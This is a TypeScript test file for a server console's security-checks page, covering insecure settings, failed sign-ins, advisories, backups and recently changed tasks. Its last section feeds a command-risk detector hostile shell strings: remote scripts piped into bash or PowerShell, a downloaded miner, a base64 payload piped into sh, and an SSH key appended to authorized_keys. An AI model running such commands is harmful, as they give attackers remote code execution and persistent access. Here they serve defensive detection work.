import { describe, expect, it } from 'vitest'
import { advisoriesFor } from '../../../src/custom/security/checks/advisories.ts'
import type { Outcome, SecurityFacts } from '../../../src/custom/security/checks/check.ts'
import { changedTasks, checks, riskOf } from '../../../src/custom/security/checks/index.ts'
import { expectLessProcessorTime } from '../../support/processorTime.ts'

const now = Date.parse('2026-11-21T00:00:00Z')
const hour = 3_600_000
const timeAgo = (ms: number) => new Date(now - ms).toISOString()

/** A real server of today that has nothing to look at. */
const facts: SecurityFacts = {
  now,
  page: { protocol: 'https:', hostname: 'console.example.org' },
  setting: { config: { language: 'en-US', site_name: '' }, version: 'v2.3.0' },
  users: [{ id: 1, username: 'root', role: 0 }],
  servers: [],
  tasks: [],
  notifiers: [],
  blocks: [],
}
const server = { plain_http: false, private_targets: false, failed_sign_ins: [], changed_tasks: [], complete: true }
const embedded: SecurityFacts = {
  ...facts,
  setting: { ...facts.setting, wheelhouse: { second_factor: true, security_facts: true } },
  users: [{ id: 1, username: 'root', role: 0, second_factor: true }],
  server,
}

const outcomeOf = (name: string, altered: Partial<SecurityFacts>, base = facts): Outcome => {
  const check = checks.find((one) => one.name === name)
  if (!check) throw new Error(`There is no check "${name}".`)
  return check.find({ ...base, ...altered })
}
const labels = (outcome: Outcome) =>
  typeof outcome === 'object' ? outcome.subjects.map(({ label }) => label) : outcome

describe('The security page of a real server', () => {
  it('finds nothing where there is nothing, and says what the server does not report', () => {
    const outcomes = Object.fromEntries(checks.map((check) => [check.name, check.find(facts)]))
    const unknown = ['second_factor_missing', 'private_targets', 'backups', 'agents_with_commands', 'agents_with_nat']
    expect(
      Object.keys(outcomes)
        .filter((name) => outcomes[name] === 'unknown')
        .sort(),
    ).toEqual(unknown.sort())
    expect(Object.values(outcomes).filter((outcome) => typeof outcome === 'object')).toEqual([])
  })

  it.each([
    ['http:', 'console.example.org', ['http://console.example.org']],
    ['http:', '203.0.113.7', ['http://203.0.113.7']],
    ['http:', 'localhost', 'nothing'],
    ['http:', '127.0.0.1', 'nothing'],
    ['http:', '[::1]', 'nothing'],
    ['http:', '127.0.0.1.example.org', ['http://127.0.0.1.example.org']],
    ['https:', 'console.example.org', 'nothing'],
  ])('looks at the address of this browser: %s//%s', (protocol, hostname, expected) => {
    expect(labels(outcomeOf('plain_http', { page: { protocol, hostname } }))).toEqual(expected)
  })

  it('lists who can sign in with a password where a provider is set up', () => {
    const users = [
      { id: 1, username: 'root', role: 0, reject_password: true },
      { id: 2, username: 'guest', role: 1 },
    ]
    const config = { language: 'en-US', site_name: '', oauth2_providers: ['GitHub'] }
    expect(labels(outcomeOf('password_beside_oauth2', { users, setting: { config } }))).toEqual(['guest #2'])
    expect(outcomeOf('password_beside_oauth2', { users })).toBe('nothing')
  })

  it('lists members with servers of their own, and does not guess where the server does not send owners', () => {
    const users = [
      { id: 1, username: 'root', role: 0 },
      { id: 2, username: 'guest', role: 1 },
      { id: 3, username: 'reader', role: 1 },
    ]
    const servers = [
      { id: 1, owner: { id: 2 } },
      { id: 2, owner: { id: 2 } },
      { id: 3, owner: { id: 1 } },
    ]
    const outcome = outcomeOf('members_with_commands', { users, servers })
    expect(outcome).toMatchObject({ subjects: [{ label: 'guest #2', count: 2 }] })
    expect(outcomeOf('members_with_commands', { users, servers: [{ id: 1 }] })).toBe('unknown')
  })

  it('lists notifiers that check no certificates, also where the server leaves out what is off', () => {
    const notifiers = [
      { id: 1, name: 'Chat', verify_tls: true },
      { id: 2, name: 'Pager', verify_tls: false },
      { id: 3 },
    ]
    expect(labels(outcomeOf('unchecked_certificates', { notifiers }))).toEqual(['Pager #2', '#3'])
  })

  it('finds administrators named admin, and no member of that name', () => {
    const users = [
      { id: 1, username: 'Admin', role: 0 },
      { id: 2, username: 'admin', role: 1 },
    ]
    expect(labels(outcomeOf('default_admin_name', { users }))).toEqual(['Admin #1'])
  })

  it('lists addresses with failed sign-ins of the last day, without agents and without older ones', () => {
    const block_timestamp = now / 1000 - 60
    const blocks = [
      { ip: '203.0.113.1', count: 3, block_reason: 1, block_timestamp },
      { ip: '203.0.113.2', count: 9, block_reason: 3, block_timestamp },
      { ip: '203.0.113.3', count: 9, block_reason: 1, block_timestamp: block_timestamp - 86_400 },
    ]
    expect(labels(outcomeOf('failed_sign_ins', { blocks }))).toEqual(['203.0.113.1'])
  })

  it('lists agents by their own settings, and leaves out those that did not answer', () => {
    const servers = [
      { id: 1, name: 'web' },
      { id: 2, name: 'db' },
      { id: 3, name: 'silent' },
    ]
    const agents = new Map([
      [1, { disable_command_execute: false, disable_nat: true }],
      [2, { disable_command_execute: true, disable_nat: false }],
    ])
    expect(outcomeOf('agents_with_commands', { servers, agents })).toMatchObject({
      subjects: [{ label: 'web #1' }],
      noteKey: 'app.security.agents_silent',
    })
    expect(labels(outcomeOf('agents_with_nat', { servers, agents }))).toEqual(['db #2'])
    expect(outcomeOf('agents_with_nat', { servers, agents: new Map() })).toBe('unknown')
  })

  it('compares the version with the advisories, and does not guess one of a development build', () => {
    const outcome = outcomeOf('old_version', { setting: { ...facts.setting, version: 'v2.0.7' } })
    expect(labels(outcome)).toContain('CVE-2026-46716')
    expect(advisoriesFor('2.0.8')).not.toContain('CVE-2026-46716')
    expect(advisoriesFor('1.3.9')).not.toContain('CVE-2026-46716')
    expect(advisoriesFor('v1.14.14')).toContain('GHSA-q6xx-5vr8-p898')
    expect(advisoriesFor('v2.2.4')).toEqual(['GHSA-ww5p-j6cj-6mqq'])
    expect(advisoriesFor('v2.2.5')).toEqual([])
    for (const version of ['debug', '', '2.0', '2.0.7.1']) expect(advisoriesFor(version)).toBeUndefined()
    expect(outcomeOf('old_version', { setting: { ...facts.setting, version: 'debug' } })).toBe('unknown')
  })
})

describe('The security page of the embedded server', () => {
  it('lists who has no second factor', () => {
    const users = [...embedded.users, { id: 2, username: 'guest', role: 1, second_factor: false }]
    expect(labels(outcomeOf('second_factor_missing', { users }, embedded))).toEqual(['guest #2'])
    expect(outcomeOf('second_factor_missing', {}, embedded)).toBe('nothing')
  })

  it('takes from the server how it was started', () => {
    expect(labels(outcomeOf('plain_http', { server: { ...server, plain_http: true } }, embedded))).toEqual([])
    expect(
      labels(
        outcomeOf('unbound_sessions', {
          setting: { config: { language: 'en-US', site_name: '', session_binding: 3 } },
        }),
      ),
    ).toEqual([])
    expect(
      outcomeOf('unbound_sessions', { setting: { config: { language: 'en-US', site_name: '', session_binding: 2 } } }),
    ).toBe('nothing')
    expect(labels(outcomeOf('private_targets', { server: { ...server, private_targets: true } }, embedded))).toEqual([])
    expect(outcomeOf('plain_http', {}, embedded)).toBe('nothing')
    expect(outcomeOf('private_targets', {}, embedded)).toBe('nothing')
  })

  it('reports that there are no backups by schedule, or why the last one failed', () => {
    const found = (backups: object) => outcomeOf('backups', { server: { ...server, backups } as never }, embedded)
    expect(found({ scheduled: false })).toEqual({ subjects: [], noteKey: 'app.security.no_backups' })
    expect(found({ scheduled: true, latest: timeAgo(hour) })).toBe('nothing')
    expect(found({ scheduled: true, failure: { at: timeAgo(hour), message: 'The disk is full' } })).toEqual({
      subjects: [{ label: 'The disk is full', at: now - hour }],
    })
  })

  it('takes failed sign-ins from its audit log, and says when that was too long to read', () => {
    const failed_sign_ins = [{ address: '203.0.113.9', count: 4 }]
    const outcome = outcomeOf('failed_sign_ins', { server: { ...server, failed_sign_ins, complete: false } }, embedded)
    expect(outcome).toMatchObject({
      subjects: [{ label: '203.0.113.9', count: 4 }],
      noteKey: 'app.security.log_too_long',
    })
  })
})

describe('Tasks changed in the last 7 days', () => {
  const task = { id: 5, name: 'Backup', created_at: timeAgo(900 * hour), last_executed_at: timeAgo(hour) }
  const find = (altered: object, base = facts) => changedTasks.find({ ...base, tasks: [{ ...task, ...altered }] })

  it('are those with a new creation or a change that is no run', () => {
    expect(find({ updated_at: timeAgo(5 * hour) })).toMatchObject({ subjects: [{ label: 'Backup #5', to: 'cron/5' }] })
    expect(find({ created_at: timeAgo(30 * hour), updated_at: timeAgo(hour) })).toMatchObject({ subjects: [{}] })
    // A run sets `updated_at` too.
    expect(find({ updated_at: timeAgo(hour) })).toBe('nothing')
    expect(find({ updated_at: timeAgo(170 * hour) })).toBe('nothing')
  })

  it('are known from the audit log also when they ran since, with who did it', () => {
    const changed_tasks = [{ id: 5, at: timeAgo(9 * hour), username: 'guest' }]
    const base = { ...embedded, server: { ...server, changed_tasks } }
    expect(find({ updated_at: timeAgo(hour) }, base)).toMatchObject({
      subjects: [{ at: now - 9 * hour, username: 'guest' }],
    })
  })
})

describe('A command', () => {
  it.each([
    ['curl -fsSL https://example.org/x.sh | bash', 'download'],
    ['wget -qO- http://203.0.113.1/a|sudo -E sh -s -- now', 'download'],
    ['curl https://example.org/x.py | /usr/bin/python3 -', 'download'],
    ['bash <(curl -s https://example.org/x)', 'download'],
    ['sh -c "$(wget -O- https://example.org/x)"', 'download'],
    ['eval "$(curl -s https://example.org/x)"', 'download'],
    ['cd /tmp; wget http://203.0.113.1/miner && chmod +x miner && ./miner', 'download'],
    ['curl -o /tmp/x https://example.org/x\nsh /tmp/x', 'download'],
    ['curl -so /tmp/x https://example.org/x; chmod 755 /tmp/x; /tmp/x', 'download'],
    ['powershell -c "irm https://example.org/x | iex"', 'download'],
    ['echo aGk= | base64 -d | sh', 'encoded'],
    ['echo "ssh-ed25519 AAAA" >> ~/.ssh/authorized_keys', 'ssh_keys'],
  ])('is shown when it opens a way in: %s', (command, reason) => {
    expect(riskOf(command)).toBe(`app.security.reasons.${reason}`)
  })

  it.each([
    'systemctl restart nginx',
    'curl -fsS https://example.org/health',
    'curl -s https://example.org/status | jq .state',
    'curl -s https://example.org/list | grep bash',
    'IP=$(curl -s https://example.org/ip); echo "$IP"',
    'tar czf - /srv | ssh backup@example.org "cat > srv.tgz"',
    'base64 -d secret.txt > plain.txt',
    'bash /opt/backup.sh',
  ])('is not shown for everyday work: %s', (command) => {
    expect(riskOf(command)).toBeUndefined()
  })

  it('of any length is looked at at once', async () => {
    await expectLessProcessorTime(2000, () => {
      for (const part of ['curl ', 'curl |', '| ', 'sudo ', '; ', 'bash $(', 'a', '/']) {
        riskOf(part.repeat(Math.floor(65_536 / part.length)))
        riskOf(`curl ${part.repeat(Math.floor(65_000 / part.length))}`)
      }
    })
  })
})
